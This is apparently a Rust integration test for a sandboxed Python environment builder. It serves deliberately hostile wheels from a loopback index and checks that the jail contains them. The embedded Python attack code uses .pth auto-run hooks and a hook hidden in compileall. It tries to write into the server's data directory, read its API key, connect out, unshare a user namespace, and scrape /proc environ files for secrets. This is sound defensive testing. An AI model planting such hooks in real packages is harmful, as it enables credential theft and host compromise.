//! Environment builds run jailed. A local PEP 503 index on loopback (in this test) serves
//! wheels, built here, whose import, `.pth` file (in every interpreter of the build) and
//! byte-compilation (a `.pth` hook that acts only in `compileall`'s interpreter) each try to write a file in a
//! live server's data dir, read its `api-key`, connect to the server's port and to a listener
//! this test owns, create a user namespace, and read `/proc/1/environ` and every process's
//! environment (looking for a value only the server's environment holds). The build runs as
//! that server's builds do (its builder uids, its data dir's state, the operator's index on
//! 127.0.0.1 through the egress proxy), through the real `sandlot __build-jail` launcher.
//!
//! The assertions are on the host: the file is not there, the listener saw no connection, the
//! key and the server's secret appear nowhere the build's output went (its log). The attack
//! code's own report lines prove it ran.
//!
//! A second test checks the wiring end to end: a template posted to a server configured with
//! `SANDLOT_PIP_INDEX_URL` on loopback downloads from that index (the index sees the requests)
//! and fails with a clear error for the packages it does not have.

use crate::common;

use common::TestServer;
use serde_json::json;
use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// The files of a wheel: path inside it, and text.
type WheelFiles = Vec<(String, String)>;

/// A PEP 503 index on 127.0.0.1: `/simple/<name>/` lists the wheels of a project, `/files/<w>`
/// serves one. Every request path is recorded.
struct Index {
    url: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Index {
    fn serve(wheels: Vec<(String, String, Vec<u8>)>) -> Index {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let mut files: HashMap<String, Vec<u8>> = HashMap::new();
        let mut projects: HashMap<String, String> = HashMap::new();
        for (project, file, bytes) in wheels {
            projects
                .entry(project)
                .or_default()
                .push_str(&format!("<a href=\"/files/{file}\">{file}</a>\n"));
            files.insert(format!("/files/{file}"), bytes);
        }
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { continue };
                let _ = conn.set_read_timeout(Some(Duration::from_secs(10)));
                let mut head = String::new();
                let mut reader = BufReader::new(conn.try_clone().unwrap());
                if reader.read_line(&mut head).is_err() {
                    continue;
                }
                loop {
                    let mut line = String::new();
                    match reader.read_line(&mut line) {
                        Ok(0) | Err(_) => break,
                        Ok(_) if line.trim().is_empty() => break,
                        Ok(_) => {}
                    }
                }
                let path = head.split_whitespace().nth(1).unwrap_or("").to_string();
                seen.lock().unwrap().push(path.clone());
                let body: Option<Vec<u8>> = if let Some(b) = files.get(&path) {
                    Some(b.clone())
                } else {
                    path.strip_prefix("/simple/")
                        .map(|p| p.trim_end_matches('/'))
                        .and_then(|p| projects.get(p))
                        .map(|links| {
                            format!("<!DOCTYPE html><html><body>\n{links}</body></html>\n")
                                .into_bytes()
                        })
                };
                let (status, ctype, body) = match body {
                    Some(b) if path.starts_with("/files/") => {
                        ("200 OK", "application/octet-stream", b)
                    }
                    Some(b) => ("200 OK", "text/html", b),
                    None => ("404 Not Found", "text/plain", b"not here\n".to_vec()),
                };
                let _ = write!(
                    conn,
                    "HTTP/1.1 {status}\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = conn.write_all(&body);
            }
        });
        Index {
            url: format!("http://127.0.0.1:{port}/simple/"),
            requests,
        }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// A TCP listener this test owns: counts every connection made to it.
struct Canary {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Canary {
    fn listen() -> Canary {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counter = hits.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                counter.fetch_add(1, Ordering::SeqCst);
                drop(conn);
            }
        });
        Canary { port, hits }
    }
}

/// The attack, as Python: each attempt prints `ATTACK <who> <what> ok|refused: ...`.
fn attack_code(who: &str, data_dir: &Path, ports: &[u16], nonce: &str) -> String {
    format!(
        r#"
import ctypes, glob, os, socket
DATA = {data:?}
PORTS = {ports:?}
NONCE = {nonce:?}
WHO = {who:?}

def attempt(name, fn):
    try:
        out = "ok: %r" % (fn(),)
    except BaseException as e:
        out = "refused: %s: %s" % (type(e).__name__, e)
    print("ATTACK %s %s %s" % (WHO, name, out[:600]), flush=True)

def write_data_dir():
    with open(os.path.join(DATA, "pwned-" + WHO), "w") as f:
        f.write("pwned")
    return "written"

def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=3)
    s.sendall(b"pwned")
    s.close()
    return "connected"

def user_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return "unshared"

def environs():
    found = []
    for p in glob.glob("/proc/[0-9]*/environ"):
        try:
            data = open(p, "rb").read()
        except OSError:
            continue
        if NONCE.encode() in data:
            found.append(data.decode(errors="replace"))
    return found

attempt("write_data_dir", write_data_dir)
attempt("read_api_key", lambda: open(os.path.join(DATA, "api-key")).read())
for port in PORTS:
    attempt("connect_%d" % port, lambda: connect(port))
attempt("user_namespace", user_namespace)
attempt("proc1_environ", lambda: open("/proc/1/environ", "rb").read())
attempt("server_environ", environs)
"#,
        data = data_dir.display().to_string(),
    )
}

/// Builds a pure-Python wheel of `files` (paths inside the wheel) with Python's zipfile, and
/// returns its file name and bytes.
fn wheel(dir: &Path, dist: &str, version: &str, files: &[(String, String)]) -> (String, Vec<u8>) {
    let name = format!("{dist}-{version}-py3-none-any.whl");
    let path = dir.join(&name);
    let spec = json!({
        "path": path,
        "dist": dist,
        "version": version,
        "files": files.iter().cloned().collect::<HashMap<_, _>>(),
    });
    let script = r#"
import base64, hashlib, json, sys, zipfile
s = json.load(sys.stdin)
dist, version = s["dist"], s["version"]
info = "%s-%s.dist-info" % (dist, version)
files = dict(s["files"])
files[info + "/METADATA"] = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (dist.replace("_", "-"), version)
files[info + "/WHEEL"] = "Wheel-Version: 1.0\nGenerator: sandlot-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
record = []
with zipfile.ZipFile(s["path"], "w") as z:
    for name, text in files.items():
        data = text.encode()
        z.writestr(name, data)
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (name, digest, len(data)))
    record.append(info + "/RECORD,,")
    z.writestr(info + "/RECORD", "\n".join(record) + "\n")
"#;
    let mut child = std::process::Command::new("/usr/bin/python3")
        .args(["-I", "-c", script])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("python3 builds the test's wheels");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(spec.to_string().as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success(), "building {name}");
    let bytes = std::fs::read(&path).unwrap();
    (name, bytes)
}

/// Every build log in `envs_dir`, concatenated.
fn build_logs(envs_dir: &Path) -> String {
    let mut text = String::new();
    for entry in std::fs::read_dir(envs_dir).unwrap().flatten() {
        if entry.path().extension().is_some_and(|e| e == "log") {
            let mut f = std::fs::File::open(entry.path()).unwrap();
            let _ = f.read_to_string(&mut text);
        }
    }
    text
}

#[test]
fn hostile_wheels_build_jailed_and_touch_nothing_on_the_host() {
    let nonce = format!("sandlot-env-jail-secret-{}", std::process::id());
    let server = TestServer::start_with_env(&[("SANDLOT_TEST_NONCE", nonce.as_str())]);
    let data_dir = std::fs::canonicalize(server.data_dir()).unwrap();
    let key = std::fs::read_to_string(data_dir.join("api-key"))
        .unwrap()
        .trim()
        .to_string();
    assert!(key.len() >= 16, "the server has an API key to steal");
    let server_port: u16 = server.url().rsplit(':').next().unwrap().parse().unwrap();
    let canary = Canary::listen();
    let ports = [canary.port, server_port];

    let work = tempfile::tempdir().unwrap();
    let wheels_dir = work.path().join("wheels");
    std::fs::create_dir(&wheels_dir).unwrap();
    let attack = |who: &str| attack_code(who, &data_dir, &ports, &nonce);
    let specs: Vec<(&str, &str, WheelFiles)> = vec![
        // Its import runs the attack (the verifier imports every requested package).
        (
            "evil-import",
            "evil_import",
            vec![("evil_import/__init__.py".into(), attack("import"))],
        ),
        // A .pth line starting with `import` runs at every interpreter start in the env.
        (
            "evil-pth",
            "evil_pth",
            vec![
                ("evil_pth_hook.py".into(), attack("pth")),
                ("evil_pth.pth".into(), "import evil_pth_hook\n".into()),
                ("evil_pth/__init__.py".into(), String::new()),
            ],
        ),
        // A .pth hook that attacks only in byte-compilation's interpreter.
        (
            "evil-compile",
            "evil_compile",
            vec![
                (
                    "evil_compile_hook.py".into(),
                    format!(
                        "import sys\nif 'compileall' in getattr(sys, 'orig_argv', []):\n    exec(compile({:?}, 'attack', 'exec'))\n",
                        attack("compile")
                    ),
                ),
                ("evil_compile.pth".into(), "import evil_compile_hook\n".into()),
                ("evil_compile/__init__.py".into(), String::new()),
            ],
        ),
    ];
    let mut served = Vec::new();
    for (project, dist, files) in &specs {
        let (file, bytes) = wheel(&wheels_dir, dist, "1.0", files);
        served.push((project.to_string(), file, bytes));
    }
    let index = Index::serve(served);

    let launcher = PathBuf::from(env!("CARGO_BIN_EXE_sandlot"));
    let defaults = sandlot_runtime::RuntimeConfig::new(data_dir.clone(), PathBuf::new());
    let isolation = sandlot_runtime::env_build::isolation(
        &data_dir,
        &launcher,
        &defaults.cgroup_root,
        &defaults.cgroup_parent,
        Some(index.url.clone()),
    );
    assert!(
        matches!(isolation, sandlot_env::Isolation::Jail(_)),
        "the test runs as root, and root's builds are jailed"
    );
    for (project, _, _) in &specs {
        let envs = work.path().join(format!("envs-{project}"));
        let spec = sandlot_env::EnvSpec {
            base_python: PathBuf::from(sandlot_env::DEFAULT_BASE_PYTHON),
            packages: vec![format!("{project}==1.0")],
        };
        let started = Instant::now();
        let result = sandlot_env::ensure(&envs, &spec, sandlot_env::Progress::Plain, &isolation);
        let log = build_logs(&envs);
        eprintln!(
            "{project}: built in {:.1}s: {}",
            started.elapsed().as_secs_f64(),
            match &result {
                Ok(env) => format!("ok at {}", env.root.display()),
                Err(e) => format!("failed: {e}"),
            }
        );
        let message = result
            .as_ref()
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        let attacks: Vec<&str> = log.lines().filter(|l| l.starts_with("ATTACK ")).collect();
        // The attack ran: one report line per attempt at least.
        for what in [
            "write_data_dir",
            "read_api_key",
            "user_namespace",
            "proc1_environ",
            "server_environ",
        ]
        .iter()
        .map(|w| w.to_string())
        .chain(ports.iter().map(|p| format!("connect_{p}")))
        {
            assert!(
                attacks
                    .iter()
                    .any(|l| l.split(' ').nth(2) == Some(what.as_str())),
                "{project}: the attack {what} never ran; log:\n{log}"
            );
        }
        // Nothing happened on the host.
        for entry in std::fs::read_dir(&data_dir).unwrap().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            assert!(
                !name.starts_with("pwned"),
                "{project}: wrote {name} in the data dir"
            );
        }
        assert_eq!(
            canary.hits.load(Ordering::SeqCst),
            0,
            "{project}: a connection reached the test's listener"
        );
        for text in [&log, &message] {
            assert!(
                !text.contains(&key),
                "{project}: the API key leaked:\n{text}"
            );
            assert!(
                !text.contains(&nonce),
                "{project}: the server's environment leaked:\n{text}"
            );
        }
        // Every attempt that matters was refused by the jail, each for its reason.
        for line in &attacks {
            let what = line.split(' ').nth(2).unwrap_or("");
            let outcome = line.splitn(4, ' ').nth(3).unwrap_or("");
            match what {
                // Its own pid 1's environment (the build's allowlisted one) is all there is.
                "proc1_environ" => assert!(
                    outcome.starts_with("ok")
                        && outcome.contains("PATH=/usr/local/bin:/usr/bin:/bin"),
                    "{project}: {line}"
                ),
                "server_environ" => assert_eq!(outcome, "ok: []", "{project}: {line}"),
                "user_namespace" => assert!(
                    outcome.starts_with("refused: PermissionError"),
                    "{project}: {line}"
                ),
                "write_data_dir" | "read_api_key" => assert!(
                    outcome.starts_with("refused: FileNotFoundError"),
                    "{project}: the data dir is not in the jail: {line}"
                ),
                _ => assert!(
                    outcome.starts_with("refused: ConnectionRefusedError"),
                    "{project}: nothing listens in the build's network namespace: {line}"
                ),
            }
        }
        // With every attempt refused the build may succeed; a success is a sealed env.
        if let Ok(env) = &result {
            let meta = std::fs::metadata(env.root.join("lib")).unwrap();
            assert_eq!(
                std::os::unix::fs::MetadataExt::uid(&meta),
                0,
                "{project}: the built tree is handed to root"
            );
        }
    }
    let requests = index.requests();
    for (project, _, _) in &specs {
        assert!(
            requests.iter().any(|r| r == &format!("/simple/{project}/")),
            "{project} was downloaded from the loopback index through the proxy: {requests:?}"
        );
    }
    drop(server);
}

#[test]
fn a_template_build_downloads_from_the_configured_index_only() {
    let index = Index::serve(Vec::new());
    let server = TestServer::start_with_env(&[("SANDLOT_PIP_INDEX_URL", index.url.as_str())]);
    let resp = server.post(
        "/v1/templates",
        &json!({"name": "from-index", "packages": ["evil-nothing==1.0"]}),
    );
    assert_eq!(resp.status, 202, "{}", resp.text);
    let deadline = Instant::now() + Duration::from_secs(600);
    let template = loop {
        let t = server.get("/v1/templates/from-index").body;
        if t["status"] != "building" {
            break t;
        }
        assert!(
            Instant::now() < deadline,
            "the template never finished: {t}"
        );
        std::thread::sleep(Duration::from_millis(500));
    };
    assert_eq!(template["status"], "failed", "{template}");
    let error = template["error"].as_str().unwrap_or_default();
    assert!(error.contains("package not found"), "{template}");
    let requests = index.requests();
    assert!(
        requests.iter().any(|r| r.starts_with("/simple/")),
        "the build asked the configured index: {requests:?}"
    );
}
